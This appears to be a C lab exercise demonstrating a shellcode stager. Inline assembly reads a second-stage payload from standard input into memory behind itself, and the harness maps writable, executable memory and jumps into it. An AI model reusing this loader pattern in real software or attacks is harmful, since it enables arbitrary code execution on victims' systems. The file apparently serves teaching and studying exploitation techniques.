/* Attack: a stager that reads the second stage from standard input to right behind itself, and runs into it. */
#include "../lab.h"

extern const unsigned char shellcode[], shellcode_end[];

__asm__(".section .rodata\n"
        "shellcode:\n"
        "  xor %eax, %eax\n" /* SYS_read */
        "  xor %edi, %edi\n"
        "  lea second_stage(%rip), %rsi\n"
        "  mov $1024, %edx\n"
        "  syscall\n"
        "second_stage:\n"
        "shellcode_end:\n"
        ".text\n");

int main(void)
{
    int input[2];
    unsigned char stage[PAYLOAD_MAX];
    watch_signals();
    size_t length = make_payload(stage, "stager", 44);
    check(pipe(input) == 0 && dup2(input[0], 0) == 0, "pipe");
    check(write(input[1], stage, length) == (ssize_t)length, "write");
    unsigned char *memory = map_anonymous(PAGE, PROT_READ | PROT_WRITE | PROT_EXEC);
    memcpy(memory, shellcode, (size_t)(shellcode_end - shellcode));
    jump_to(memory);
    return 0;
}
